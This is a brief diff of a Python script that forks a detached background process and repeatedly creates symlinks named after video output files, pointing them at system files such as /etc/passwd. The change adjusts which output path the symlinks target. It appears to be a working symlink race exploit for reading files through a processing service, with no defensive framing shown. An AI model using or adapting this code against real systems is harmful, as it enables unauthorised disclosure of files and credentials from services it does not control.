@@ -10,7 +10,7 @@ target = next((path for path in ("/usr/lib/os-release", "/etc/passwd", "/usr/bin
 if os.fork() == 0:
     os.setsid()
     while True:
-        for video in glob.glob(os.path.abspath("../out-*/Video.mp4")):
+        for video in glob.glob(os.path.abspath("../out-*/video")):
             for name in (video, os.path.dirname(video)):
                 try:
                     os.symlink(target, name + ".link")
